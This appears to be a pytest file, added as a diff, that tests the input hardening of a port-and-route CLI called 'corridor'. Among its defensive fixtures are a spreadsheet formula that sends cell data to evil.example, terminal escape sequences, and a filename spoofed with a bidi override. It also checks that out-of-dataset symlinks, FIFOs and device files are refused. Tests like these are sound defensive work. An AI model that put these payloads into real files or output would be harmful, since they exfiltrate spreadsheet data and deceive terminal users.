@@ -1,0 +1,623 @@
+"""Hostile and careless input: every case is refused cleanly, and nothing the user did not name changes.
+
+One test per defect of the hardening issue (items 2 to 13; the graph cache, item 1, belongs to
+the engine), then a corpus of bad places, numbers, files, paths and names that grows with every
+defect found. A refusal is: exit 1 or 2, nothing on stdout, exactly one line on stderr saying
+what to fix, no traceback, no raw terminal control character, every file under the test's
+directory (the dataset and everything beside it) byte for byte as it was.
+"""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+import os
+import signal
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from corridor._fs import DatasetLock, check_output_path, sweep_temps
+from corridor._text import csv_text, neutralise_cell, restore_cell
+from corridor.datasets import load_dataset, read_places
+from corridor.editing import add_place, init_dataset
+from corridor.errors import DataError, WriteError
+from corridor.io import dumps
+
+from .conftest import snapshot
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+TITLE = "\x1b]0;pwned\x07"  # sets the terminal's title
+CLEAR = "\x1b[2J\x1b[H"  # clears the screen
+CSI = "\x9b2J"  # the one-byte control sequence introducer
+BIDI = "Port \u202egnp.exe"  # reads backwards from the override on
+
+
+def problems(err: str) -> list[str]:
+    """Return the lines of stderr that are not progress (the first command on a dataset says it builds it)."""
+    return [line for line in err.splitlines() if not line.startswith("corridor: building the network from ")]
+
+
+def refused(result, code: int, *says: str) -> None:
+    """Exit code as expected, nothing on stdout, one line on stderr saying `says`, no traceback."""
+    assert result.code == code, (result.code, result.err)
+    assert result.out == ""
+    assert "Traceback" not in result.err
+    assert len(problems(result.err)) == 1, result.err
+    for words in says:
+        assert words in result.err, result.err
+    assert not any(ch in result.err for ch in "\x1b\x9b\x07\u202e"), "a raw control character reached stderr"
+
+
+@pytest.fixture
+def site(tiny):
+    """The tiny dataset inside its test directory, and a fingerprint of that whole directory."""
+    top = tiny.parent
+
+    def state() -> dict[str, str]:
+        return snapshot(top)
+
+    return tiny, state
+
+
+def corridor(*argv: str, timeout: float = 120, **kwargs) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "corridor", *argv], capture_output=True, text=True, timeout=timeout, **kwargs
+    )
+
+
+def add(root: Path, *extra: str, pid: str = "CNNEW", name: str = "New Port") -> list[str]:
+    """`ports add` arguments for a seaport on the tiny coast."""
+    base = ["--id", pid, "--name", name, "--country", "CN", "--lat", "-0.02", "--lon", "1.0", "--modes", "sea"]
+    return ["ports", "add", *base, *extra, "--data", str(root)]
+
+
+# --------------------------------------------------------------------------- 2. formula injection
+
+
+def test_2_csv_cells_a_spreadsheet_would_run_are_neutralised(site, run):
+    root, _ = site
+    assert run(*add(root, name=FORMULA)).code == 0
+    for argv in (
+        ("ports", "list", "--format", "csv", "--data", str(root)),
+        ("reach", "CNAAA", "--format", "csv", "--data", str(root)),
+    ):
+        result = run(*argv)
+        assert result.code == 0, result.err
+        cells = [cell for row in csv.reader(io.StringIO(result.out)) for cell in row]
+        assert "'" + FORMULA in cells
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+        assert not any(cell.startswith("-") and not cell[1:].replace(".", "").isdigit() for cell in cells)
+    listed = run("ports", "list", "--format", "csv", "--data", str(root)).out
+    assert ",-0.02," in listed  # a negative number is a number, left as it is
+    # The table keeps it neutralised too, and reads back exactly what was given.
+    stored = [cell for row in csv.reader((root / "ports" / "places.csv").open(encoding="utf-8")) for cell in row]
+    assert "'" + FORMULA in stored
+    assert read_places(root / "ports" / "places.csv")["CNNEW"].name == FORMULA
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1", "'=x", "''+y", "-3.5", "1e5"])
+def test_2_the_csv_writer_round_trips_every_cell(text):
+    (row,) = csv.reader(io.StringIO(csv_text([[text]]), newline=""))
+    assert restore_cell(row[0]) == text
+    assert neutralise_cell(text)[0] not in "=+@\t\r" or text in ("-3.5", "1e5")
+
+
+# --------------------------------------------------------------------------- 3. init follows no link out
+
+
+def test_3_init_refuses_a_link_out_of_the_dataset_and_keeps_private_modes(site, run, tmp_path):
+    root, state = site
+    secret = tmp_path / "secret.txt"
+    secret.write_text("private\n")
+    secret.chmod(0o600)
+    (root / "notes.txt").symlink_to(secret)
+    before = state()
+    refused(run("init", str(tmp_path / "copy"), "--from", str(root)), 1, "outside the dataset", "notes.txt")
+    assert state() == before and not (tmp_path / "copy").exists()
+
+    (root / "notes.txt").unlink()
+    (root / "private.csv").write_text("mine\n")
+    (root / "private.csv").chmod(0o600)
+    (root / "inside.csv").symlink_to(root / "parameters.csv")  # a link within the dataset is copied as a file
+    assert run("init", str(tmp_path / "copy"), "--from", str(root), "-q").code == 0
+    copy = tmp_path / "copy"
+    assert (copy / "private.csv").stat().st_mode & 0o777 == 0o600
+    assert not (copy / "inside.csv").is_symlink()
+    assert (copy / "inside.csv").read_bytes() == (root / "parameters.csv").read_bytes()
+
+
+def test_3_init_refuses_a_fifo_in_the_source(site, run, tmp_path):
+    root, state = site
+    os.mkfifo(root / "pipe.csv")
+    before = state()
+    refused(run("init", str(tmp_path / "copy"), "--from", str(root)), 1, "pipe.csv is a FIFO")
+    assert state() == before
+
+
+# --------------------------------------------------------------------------- 4. outputs
+
+
+@pytest.mark.parametrize(
+    ("target", "says"),
+    [
+        (lambda root, tmp: root / "ports" / "places.csv", "inside the dataset"),
+        (lambda root, tmp: root / "new.html", "inside the dataset"),
+        (lambda root, tmp: tmp, "is a directory, not a file"),
+        (lambda root, tmp: Path("/dev/null"), "is a character device, not a file"),
+    ],
+    ids=["dataset-table", "dataset-new-file", "directory", "device"],
+)
+def test_4_a_map_never_replaces_a_dataset_file_a_device_or_a_directory(site, run, tmp_path, target, says):
+    root, state = site
+    path = target(root, tmp_path)
+    before = state()
+    refused(run("route", "CNAAA", "CNBBB", "--map", str(path), "--data", str(root)), 1, says)
+    refused(run("map", "--out", str(path), "--data", str(root)), 1, says)
+    assert state() == before
+
+
+def test_4_a_map_refuses_a_fifo_and_a_read_only_file(site, run, tmp_path):
+    root, state = site
+    fifo, kept = tmp_path / "pipe.html", tmp_path / "kept.html"
+    os.mkfifo(fifo)
+    kept.write_text("mine")
+    kept.chmod(0o444)
+    before = state()
+    refused(run("route", "CNAAA", "CNBBB", "--map", str(fifo), "--data", str(root)), 1, "is a FIFO")
+    refused(run("route", "CNAAA", "CNBBB", "--map", str(kept), "--data", str(root)), 1, "is read-only")
+    assert state() == before
+    with pytest.raises(WriteError, match="inside the dataset"):
+        check_output_path(tmp_path / "link.html", root) if (tmp_path / "link.html").symlink_to(
+            root / "links" / "links.csv"
+        ) is None else None
+
+
+# --------------------------------------------------------------------------- 5. tracebacks
+
+
+def test_5_stdout_full_closed_or_broken(tiny):
+    # /dev/full: the write fails with ENOSPC.
+    with open("/dev/full", "w") as full:
+        done = subprocess.run([sys.executable, "-m", "corridor", "reach", "CNAAA", "--data", str(tiny)],
+                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)  # fmt: skip
+    assert done.returncode == 1
+    assert problems(done.stderr) == ["corridor: cannot write the output: No space left on device"]
+    # A closed stdout: refused before any work, and no file gets its descriptor.
+    command = f"exec {sys.executable} -m corridor route CNAAA CNBBB --data {tiny} >&-"
+    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=120)
+    assert done.returncode == 1
+    (line,) = problems(done.stderr)
+    assert line.startswith("corridor: standard output is closed")
+    # A reader that went away (as `head` does once it has its lines): quiet, exit 1.
+    reader, writer = os.pipe()
+    os.close(reader)
+    try:
+        done = subprocess.run([sys.executable, "-m", "corridor", "reach", "CNAAA", "--data", str(tiny)],
+                              stdout=writer, stderr=subprocess.PIPE, text=True, timeout=120)  # fmt: skip
+    finally:
+        os.close(writer)
+    assert done.returncode == 1
+    assert problems(done.stderr) == []
+
+
+LINE_OF_A_NUMBER = {"type": "LineString", "coordinates": 5}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        {"type": "FeatureCollection", "features": 5},
+        {"type": "FeatureCollection", "features": [5]},
+        {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": LINE_OF_A_NUMBER}]},
+        [1, 2],
+    ],
+    ids=["features-number", "feature-number", "coordinates-number", "list"],
+)
+def test_5_a_track_file_of_the_wrong_shape_is_a_one_line_error(site, run, content):
+    root, state = site
+    track = root / "rail-odbl" / "rail_cn_seasia_osm.geojson.gz"
+    track.parent.mkdir()
+    with gzip.open(track, "wt") as handle:
+        json.dump(content, handle)
+    before = state()
+    # Routing never reads the track; drawing along it and validating do.
+    refused(
+        run("route", "CNAAA", "CNBBB", "--modes", "rail", "--format", "geojson", "--data", str(root)), 1, str(track)
+    )
+    result = run("validate", "--data", str(root))
+    assert result.code == 1 and str(track) in result.out and "Traceback" not in result.err
+    assert state() == before
+
+
+@pytest.mark.parametrize("table", ["links/links.csv", "ports/places.csv", "parameters.csv", "sea/marnet.geojson"])
+def test_5_a_dataset_file_linked_to_dev_zero_is_refused_before_reading(site, table):
+    root, state = site
+    (root / table).unlink()
+    (root / table).symlink_to("/dev/zero")
+    before = state()
+    done = corridor("route", "CNAAA", "CNBBB", "--data", str(root), timeout=60)
+    assert done.returncode == 1 and done.stdout == "" and "Traceback" not in done.stderr
+    (line,) = problems(done.stderr)
+    assert f"{root / table} is a character device, not " in line
+    assert state() == before
+
+
+@pytest.mark.parametrize("table", ["links/links.csv", "ports/places.csv", "countries.csv"])
+def test_5_a_dataset_file_that_is_a_fifo_is_refused_not_waited_on(site, table):
+    root, state = site
+    (root / table).unlink()
+    os.mkfifo(root / table)
+    before = state()
+    for argv in (("route", "CNAAA", "CNBBB"), ("validate",), ("ports", "add", "--id", "CNX1", "--name", "X",
+                                                             "--country", "CN", "--lat", "1", "--lon", "1",
+                                                             "--modes", "rail")):  # fmt: skip
+        done = corridor(*argv, "--data", str(root), timeout=60)
+        assert done.returncode == 1, done.stderr
+        assert "Traceback" not in done.stderr
+        assert f"{root / table} is a FIFO (named pipe), not " in done.stdout + done.stderr
+    assert state() == before
+
+
+# --------------------------------------------------------------------------- 6. terminal control characters
+
+
+@pytest.mark.parametrize(
+    ("flag", "value", "says"),
+    [
+        ("--name", f"Evil{TITLE}", "name: contains a control character ('\\x1b')"),
+        ("--name", f"Evil{CSI}", "name: contains a control character ('\\x9b')"),
+        ("--name", BIDI, "name: contains a bidirectional-text control ('\\u202e')"),
+        ("--alias", f"Alias{CLEAR}", "aliases: contains a control character"),
+        ("--notes", f"note{TITLE}", "notes: contains a control character"),
+        ("--area", "\u2066isolate", "area: contains a bidirectional-text control"),
+    ],
+)
+def test_6_control_characters_and_bidi_overrides_are_refused_on_input(site, run, flag, value, says):
+    root, state = site
+    before = state()
+    refused(run(*add(root, flag, value)), 1, says)
+    assert state() == before
+
+
+@pytest.mark.parametrize(
+    ("table", "column"),
+    [("ports/places.csv", "notes"), ("ports/places.csv", "aliases"), ("links/links.csv", "name"),
+     ("ports/wpi_ports.csv", "name"), ("sources.csv", "title")],
+)  # fmt: skip
+def test_6_validate_finds_control_characters_in_every_table(site, run, table, column):
+    root, state = site
+    path = root / table
+    if table == "ports/wpi_ports.csv":
+        path.write_text("wpi_number,name,unlocode,country_code,lat,lon,harbor_size\n1,Delta,CNDDD,CN,-0.03,2.6,Small\n")
+    rows = list(csv.DictReader(path.open(encoding="utf-8")))
+    rows[0][column] = f"x{TITLE}y"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    before = state()
+    result = run("validate", "--data", str(root))
+    assert result.code == 1
+    assert f"{path}:2: {column}: contains a control character ('\\x1b')" in result.out
+    assert "\x1b" not in result.out + result.err
+    assert state() == before
+
+
+def test_6_text_that_reaches_the_terminal_is_escaped(site, run):
+    root, _ = site
+    for argv in (("ports", "show", f"Alpha{TITLE}"), ("route", CLEAR, "CNBBB"), ("route", "CNAAA", BIDI)):
+        result = run(*argv, "--data", str(root))
+        refused(result, 1, "unknown place")
+    # Text from the data itself (a World Port Index table written before this rule) is shown escaped.
+    from corridor._text import printable
+
+    assert printable(f"a{TITLE}b{BIDI}") == "a\\u001b]0;pwned\\u0007bPort \\u202egnp.exe"
+    assert json.loads(f'"{printable(CSI)}"') == CSI  # the escape is also JSON
+
+
+# --------------------------------------------------------------------------- 7. the lock file
+
+
+@pytest.mark.parametrize("kind", ["symlink", "directory", "fifo"])
+def test_7_a_lock_file_that_is_not_a_file_is_refused_and_followed_nowhere(site, run, tmp_path, kind):
+    root, state = site
+    lock, outside = root / ".corridor.lock", tmp_path / "created-outside"
+    if kind == "symlink":
+        lock.symlink_to(outside)
+    elif kind == "directory":
+        lock.mkdir()
+    else:
+        os.mkfifo(lock)
+    before = state()
+    refused(run(*add(root)), 1, ".corridor.lock is ", "not a lock file")
+    assert not outside.exists()
+    assert state() == before
+
+
+# --------------------------------------------------------------------------- 8. numbers
+
+
+@pytest.mark.parametrize("teu", ["1e308", "1.7e308"])
+def test_8_a_teu_whose_totals_overflow_is_refused(site, run, teu):
+    root, state = site
+    before = state()
+    for argv in (("route", "CNAAA", "CNBBB"), ("compare", "CNAAA", "CNBBB"), ("reach", "CNAAA")):
+        for output in ("text", "json"):
+            result = run(*argv, "--teu", teu, "--format", output, "--data", str(root))
+            refused(result, 2, "--teu", "overflow")
+    assert state() == before
+
+
+def test_8_json_never_holds_nan_or_infinity():
+    for value in (float("inf"), float("-inf"), float("nan")):
+        with pytest.raises(DataError, match="not a finite number"):
+            dumps({"cost_usd": value})
+
+
+# --------------------------------------------------------------------------- 9. impossible links
+
+
+def test_9_links_add_refuses_a_speed_outside_the_mode_s_range(site, run):
+    root, state = site
+    before = state()
+    result = run("links", "add", "CNAAA", "CNBBB", "--mode", "rail", "--distance-km", "1500", "--time-h", "0.02",
+                 "--data", str(root))  # fmt: skip
+    refused(result, 1, "75,000.0 km/h", "outside the plausible 1-160 km/h for rail")
+    result = run("links", "add", "CNAAA", "CNBBB", "--mode", "road", "--time-h", "0.5", "--data", str(root))
+    refused(result, 1, "outside the plausible 1-100 km/h for road")
+    assert state() == before
+
+
+def test_9_validate_refuses_an_impossible_link_as_an_error(site, run):
+    root, state = site
+    links = root / "links" / "links.csv"
+    links.write_text(links.read_text() + "rail-fast,CNAAA,CNBBB,rail,1500,estimate,0.02,estimate\n")
+    before = state()
+    result = run("validate", "--data", str(root))
+    assert result.code == 1
+    assert "link rail-fast: time_h: 1,500 km in 0.02 h is 75,000.0 km/h, outside the plausible" in result.out
+    parameters = load_dataset(root).parameters
+    assert parameters[("max_speed_kmh", "rail")].source.startswith("S18")  # every bound cites its source
+    assert all(p.source for (name, _), p in parameters.items() if name.endswith("_speed_kmh"))
+    assert state() == before
+
+
+# --------------------------------------------------------------------------- 10. silent data loss
+
+
+def test_10_a_links_table_that_is_a_directory_is_an_error(site, run):
+    root, state = site
+    links = root / "links" / "links.csv"
+    links.unlink()
+    links.mkdir()
+    before = state()
+    refused(run("route", "CNAAA", "CNCCC", "--data", str(root)), 1, f"{links} is a directory, not a CSV table")
+    assert run("validate", "--data", str(root)).code == 1
+    refused(run(*add(root)), 1, "is a directory, not a CSV table")
+    assert state() == before
+
+
+def test_10_a_second_place_of_the_same_name_is_warned_of_with_the_ids_to_use(site, run):
+    root, _ = site
+    result = run(*add(root, name="bravo port"))
+    assert result.code == 0, result.err
+    assert "shares a name with Bravo Port (CN, CNBBB)" in result.err
+    assert "give the id (CNNEW, CNBBB)" in result.err
+
+
+# --------------------------------------------------------------------------- 11. large datasets
+
+
+def test_11_a_waiting_writer_waits_while_the_holder_makes_progress(tiny):
+    holder = DatasetLock(tiny, stall_s=0.3)
+    holder.acquire()
+
+    def work() -> None:
+        for step in range(12):  # 1.2 s of work, progress every 0.1 s: four times the stall limit
+            time.sleep(0.1)
+            holder.progress(f"step {step}")
+        holder.release()
+
+    worker = threading.Thread(target=work)
+    worker.start()
+    started = time.monotonic()
+    with DatasetLock(tiny, stall_s=0.3):
+        waited = time.monotonic() - started
+    worker.join()
+    assert waited >= 1.0
+
+
+def test_11_a_waiting_writer_gives_up_on_a_holder_that_makes_no_progress(tiny):
+    with DatasetLock(tiny), pytest.raises(WriteError, match=f"pid {os.getpid()}.* no progress"):
+        DatasetLock(tiny, stall_s=0.2).acquire()
+
+
+def test_11_a_write_checks_only_what_it_touches(site, run):
+    root, _ = site
+    places = root / "ports" / "places.csv"
+    with places.open("a", newline="", encoding="utf-8") as handle:
+        header = places.read_text().splitlines()[0].split(",")
+        bad = {"id": "CNOLD", "name": "Old Depot", "country": "CN", "lat": "95", "lon": "1", "kind": "dry_port",
+               "modes": "road", "coord_source": "estimate"}  # fmt: skip
+        csv.writer(handle, lineterminator="\n").writerow([bad.get(c, "") for c in header])
+    # The bad row is the full check's business; a write that does not touch it goes ahead.
+    assert run("validate", "--data", str(root)).code == 1
+    result = run("ports", "add", "--id", "CNDRY", "--name", "Dry", "--country", "CN", "--lat", "1.5", "--lon", "2",
+                 "--modes", "road", "--data", str(root))  # fmt: skip
+    assert result.code == 0, result.err
+    assert places.read_text().splitlines()[-1].startswith("CNDRY,Dry,")
+    # A link to the bad row's place needs that row, and is refused with its problem.
+    result = run("links", "add", "CNOLD", "CNDRY", "--mode", "road", "--data", str(root))
+    refused(result, 1, "problems to fix", "lat: 95 is outside")
+
+
+# --------------------------------------------------------------------------- 12. leftovers
+
+
+def test_12_a_terminated_writer_leaves_no_temporary_file(site, tmp_path):
+    root, _ = site
+    hooks = tmp_path / "hooks"
+    hooks.mkdir()
+    places = root / "ports" / "places.csv"
+    before = places.read_bytes()
+    env = {**os.environ, "CORRIDOR_TEST_HOOK_DIR": str(hooks), "CORRIDOR_TEST_PAUSE": "partial"}
+    argv = [sys.executable, "-m", "corridor", *add(root)]
+    writer = subprocess.Popen(argv, env=env, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 120
+    while not (hooks / "partial").exists():
+        assert writer.poll() is None and time.monotonic() < deadline, "the writer never reached its write"
+        time.sleep(0.01)
+    assert list(places.parent.glob(".places.csv.*.tmp"))  # half the new table is on disk
+    writer.send_signal(signal.SIGTERM)
+    _, err = writer.communicate(timeout=60)
+    assert writer.returncode == 128 + signal.SIGTERM
+    assert err.strip() == "corridor: terminated"
+    assert places.read_bytes() == before
+    assert not list(places.parent.glob(".places.csv.*.tmp"))
+
+
+def test_12_leftovers_of_killed_processes_are_swept_and_live_ones_kept(tmp_path):
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    gone = int(dead.stdout)
+    stale = tmp_path / f".route.html.{gone}.abcd1234.tmp"
+    live = tmp_path / f".route.html.{os.getpid()}.efgh5678.tmp"
+    staging = tmp_path / f".mine.{gone}.ijkl9012.tmp"
+    stale.write_text("half a map")
+    live.write_text("being written")
+    staging.mkdir()
+    (staging / "places.csv").write_text("half a copy")
+    other = tmp_path / "keep.html"
+    other.write_text("a map")
+    assert sweep_temps(tmp_path) == 2
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([live.name, other.name])
+
+
+def test_12_a_write_leaves_no_trial_copy_behind(site, run, tmp_path):
+    import tempfile
+
+    root, _ = site
+    before = {p.name for p in Path(tempfile.gettempdir()).glob("corridor-trial-*")}
+    assert run(*add(root)).code == 0
+    assert {p.name for p in Path(tempfile.gettempdir()).glob("corridor-trial-*")} == before
+
+
+# --------------------------------------------------------------------------- 13. misleading messages
+
+
+def test_13_a_path_of_the_wrong_type_is_named_for_what_it_is(site, run, tmp_path):
+    root, state = site
+    a_file = tmp_path / "file.txt"
+    a_file.write_text("x")
+    before = state()
+    refused(run("route", "CNAAA", "CNBBB", "--data", str(a_file)), 1, "is a file, not a directory")
+    refused(run("validate", "--data", str(a_file)), 1, "is a file, not a directory")
+    refused(run("route", "CNAAA", "CNBBB", "--params", str(tmp_path), "--data", str(root)), 1,
+            "is a directory, not a parameters CSV table")  # fmt: skip
+    refused(run("ports", "import", str(tmp_path), "--data", str(root)), 1, "is a directory, not a file")
+    for result in (run("route", "CNAAA", "CNBBB", "--data", str(a_file)), run("ports", "import", str(tmp_path))):
+        assert "does not exist" not in result.err
+    assert state() == before
+
+
+def test_13_problems_name_lines_not_byte_offsets(site, run, tmp_path):
+    root, state = site
+    source = tmp_path / "import.csv"
+    source.write_bytes(b"id,name,country,lat,lon,modes\nCNOK1,Fine,CN,1,1,rail\nCNOK2,Caf\xe9,CN,1,1,rail\n")
+    before = state()
+    refused(run("ports", "import", str(source), "--data", str(root)), 1, f"{source}:3: not UTF-8 text")
+    assert state() == before
+    # A quoted cell spanning two lines: the next row's problems name the line it starts on.
+    source.write_text('id,name,country,lat,lon,modes\nCNOK1,"Two\nLines",CN,1,1,rail\nCNOK2,North,CN,95,1,rail\n')
+    before = state()
+    result = run("ports", "import", str(source), "--data", str(root))
+    assert result.code == 1
+    assert f"{source}:4: lat: 95 is outside" in result.err
+    assert f"{source}:2: name: contains a control character" in result.err
+    assert state() == before
+
+
+# --------------------------------------------------------------------------- the corpus
+
+
+def _places(root: Path, tmp: Path) -> str:
+    return str(root / "ports" / "places.csv")
+
+
+CORPUS = [
+    # bad places
+    ("place-lat-huge", lambda r, t: add(r, "--lat", "1e308"), 1, "lat: 1e+308 is outside"),
+    ("place-lon-inf", lambda r, t: add(r, "--lon=-1e309"), 2, "not a finite number"),
+    ("place-inland-seaport", lambda r, t: add(r, "--lat", "1.5", "--lon", "2"), 1, "cannot join the sea lanes"),
+    ("place-id-escape", lambda r, t: add(r, pid=f"CN{CLEAR}"), 1, "id: contains a control character"),
+    ("place-id-taken-case", lambda r, t: add(r, pid="cnaaa"), 1, "duplicate id 'cnaaa'"),
+    ("link-unknown-end", lambda r, t: ["links", "add", "CNAAA", "Atlantis", "--mode", "rail", "--data", str(r)], 1,
+     "unknown place 'Atlantis'"),
+    ("link-area-end", lambda r, t: ["links", "add", "CNAAA", "Charlie City", "--mode", "rail", "--data", str(r)], 1,
+     "names the area"),
+    # bad numbers
+    ("teu-infinite", lambda r, t: ["route", "CNAAA", "CNBBB", "--teu", "1e309", "--data", str(r)], 2,
+     "not a finite number"),
+    ("teu-nan", lambda r, t: ["reach", "CNAAA", "--teu", "nan", "--data", str(r)], 2, "not a positive number"),
+    ("distance-huge", lambda r, t: ["links", "add", "CNAAA", "CNBBB", "--mode", "rail", "--distance-km", "1e308",
+                                    "--data", str(r)], 1, "distance_km: 1e+308 is outside"),
+    ("time-tiny", lambda r, t: ["links", "add", "CNAAA", "CNBBB", "--mode", "rail", "--time-h", "1e-300",
+                                "--data", str(r)], 1, "time_h: 1e-300 is outside"),
+    ("frequency-huge", lambda r, t: ["links", "add", "CNAAA", "CNBBB", "--mode", "rail", "--frequency-per-week",
+                                     "1e300", "--data", str(r)], 1, "frequency_per_week: 1e+300 is outside"),
+    ("limit-zero", lambda r, t: ["reach", "CNAAA", "--limit", "0", "--data", str(r)], 2, "not a positive"),
+    # bad files
+    ("import-dev-zero", lambda r, t: ["ports", "import", "/dev/zero", "--data", str(r)], 1,
+     "/dev/zero is a character device, not a file"),
+    ("import-directory", lambda r, t: ["ports", "import", str(t), "--data", str(r)], 1, "is a directory, not a file"),
+    ("import-missing", lambda r, t: ["ports", "import", str(t / "none.csv"), "--data", str(r)], 1, "does not exist"),
+    ("params-dev-null", lambda r, t: ["route", "CNAAA", "CNBBB", "--params", "/dev/null", "--data", str(r)], 1,
+     "/dev/null is a character device, not a parameters CSV table"),
+    # bad paths
+    ("data-dev-null", lambda r, t: ["route", "CNAAA", "CNBBB", "--data", "/dev/null"], 1, "not a directory"),
+    ("data-missing", lambda r, t: ["validate", "--data", str(t / "nowhere")], 1, "does not exist"),
+    ("map-into-dataset", lambda r, t: ["compare", "CNAAA", "CNBBB", "--map", _places(r, t), "--data", str(r)], 1,
+     "inside the dataset"),
+    ("map-under-a-file", lambda r, t: ["map", "--out", _places(r, t) + "/x.html", "--data", str(r)], 1,
+     "inside the dataset"),
+    ("map-dev-full", lambda r, t: ["route", "CNAAA", "CNBBB", "--map", "/dev/full", "--data", str(r)], 1,
+     "is a character device"),
+    ("init-over-a-file", lambda r, t: ["init", _places(r, t)], 1, "is a file: give a new directory"),
+    # hostile names
+    ("name-title", lambda r, t: add(r, name=f"Port{TITLE}"), 1, "contains a control character ('\\x1b')"),
+    ("name-nul", lambda r, t: add(r, name="Port\x00"), 1, "contains a control character ('\\x00')"),
+    ("name-bidi", lambda r, t: add(r, name=BIDI), 1, "contains a bidirectional-text control"),
+    ("name-line-separator", lambda r, t: add(r, name="Port\u2028Two"), 1, "contains a line break"),
+    ("source-csi", lambda r, t: add(r, "--source", f"S1{CSI}"), 1, "source: contains a control character"),
+    ("link-name-escape", lambda r, t: ["links", "add", "CNAAA", "CNBBB", "--mode", "road", "--name", CLEAR,
+                                       "--data", str(r)], 1, "name: contains a control character"),
+    ("route-name-escape", lambda r, t: ["route", f"CNAAA{TITLE}", "CNBBB", "--data", str(r)], 1, "unknown place"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("argv", "code", "says"), [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS])
+def test_the_hostile_corpus_is_refused_cleanly(site, run, tmp_path, argv, code, says):
+    root, state = site
+    before = state()
+    refused(run(*argv(root, tmp_path)), code, says)
+    assert state() == before
+
+
+def test_a_refused_init_leaves_nothing_beside_its_target(tmp_path):
+    with pytest.raises(DataError):
+        init_dataset(tmp_path / "copy", source=tmp_path / "no-such-dataset")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_adding_through_the_library_refuses_the_same(site):
+    root, state = site
+    before = state()
+    with pytest.raises(DataError, match="bidirectional-text control"):
+        add_place(root, place_id="CNX1", name=BIDI, country="CN", lat=1, lon=1, modes=["road"])
+    assert state() == before
